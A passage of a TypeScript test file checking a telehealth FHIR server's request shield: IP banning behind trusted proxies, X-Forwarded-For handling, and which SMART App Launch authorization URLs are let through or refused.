    while (!(await banned()).includes('203.0.113.7') && Date.now() < until) await new Promise((r) => setTimeout(r, 50));
    expect(await banned()).toContain('203.0.113.7');
    expect(await banned()).not.toContain('10.77.0.2');
  });

  it('never bans a trusted proxy itself, even for attacks it forwards without naming a client', async () => {
    await attack('fd00:77::1');
    for (const res of await attack('fd00:77::1')) expect(res.statusCode).toBe(403);
    expect((await metadata('fd00:77::1')).statusCode).toBe(200);
  });

  it('ignores X-Forwarded-For from anyone else: the connection itself is banned', async () => {
    await attack('198.51.100.4', '203.0.113.99');
    expect((await metadata('198.51.100.4', '203.0.113.100')).statusCode).toBe(403);
    expect((await metadata('10.77.0.2', '203.0.113.99')).statusCode).toBe(200);
  });
});

describe.each(['https://10.1.2.3', 'https://[fd00::7]:8443'])('the shield of a deployment reached by an address (TELESALUD_PUBLIC_URL=%s): SMART App Launch', (publicUrl) => {
  let node: TestNode;
  let app: NewAppClient;
  const fhirBase = `${publicUrl}/fhir/R4`;
  const host = new URL(publicUrl).host;
  const browser = { host, accept: 'text/html,application/xhtml+xml,*/*;q=0.8', 'accept-language': 'es-AR,es;q=0.9', 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36' };
  let source = 0;
  const from = () => `10.31.0.${++source}`;

  beforeAll(async () => {
    node = await startTestNode('pglite', { TELESALUD_PUBLIC_URL: publicUrl });
    app = (await addClient(node.ctx.store.db, { name: 'Diario', scopes: 'launch/patient patient/*.read offline_access', redirectUris: ['https://app.example/cb', 'http://127.0.0.1:51723/cb'], public: true })) as NewAppClient;
  });
  afterAll(async () => {
    await node?.stop();
  });

  const smart = (overrides: Record<string, string> = {}) =>
    new URLSearchParams({ response_type: 'code', client_id: app.client_id, redirect_uri: 'http://127.0.0.1:51723/cb', scope: 'launch/patient patient/*.read offline_access openid', state: 'Zq3f9_x-T2', code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM', code_challenge_method: 'S256', aud: fhirBase, ...overrides }).toString();
  const get = (url: string) => node.app.inject({ method: 'GET', url, headers: browser, remoteAddress: from() });

  it('lets aud = its own FHIR base URL through: the app accepts the request and sends the browser to the approval page', async () => {
    for (const redirect of ['http://127.0.0.1:51723/cb', 'https://app.example/cb']) {
      const start = await get(`/oauth2/authorize?${smart({ redirect_uri: redirect })}`);
      expect(start.headers['x-refused-by']).toBeUndefined();
      // 303 to the approval page: aud, scope and the redirect URI were all the app's to judge, and it took them.
      expect(start.statusCode, start.body).toBe(303);
      const page = new URL(String(start.headers.location), publicUrl);
      expect(page.pathname).toBe('/authorize');
      expect(page.searchParams.get('aud')).toBe(fhirBase);
      const shown = await get(`/api/oauth/authorization${page.search}`);
      expect(shown.headers['x-refused-by']).toBeUndefined();
      // Not signed in: the app's own 401, not the shield's 403.
      expect(shown.statusCode).toBe(401);
    }
  });

  it('still refuses a URL naming an address elsewhere: another address as aud, its own address in another parameter or on another route', async () => {
    const refused = async (url: string) => {
      const res = await get(url);
      expect([res.statusCode, res.headers['x-refused-by']], url).toEqual([403, 'shield']);
    };
    await refused(`/oauth2/authorize?${smart({ aud: 'https://10.1.2.4/fhir/R4' })}`);
    await refused(`/oauth2/authorize?${smart({ aud: `${publicUrl}/fhir/R4/Patient` })}`);
    await refused(`/oauth2/authorize?${smart({ redirect_uri: `${publicUrl}/cb` })}`);
    await refused(`/api/me/record-access?${new URLSearchParams({ aud: fhirBase })}`);
    await refused(`/fhir/R4/Patient?${new URLSearchParams({ aud: fhirBase })}`);
  });
});
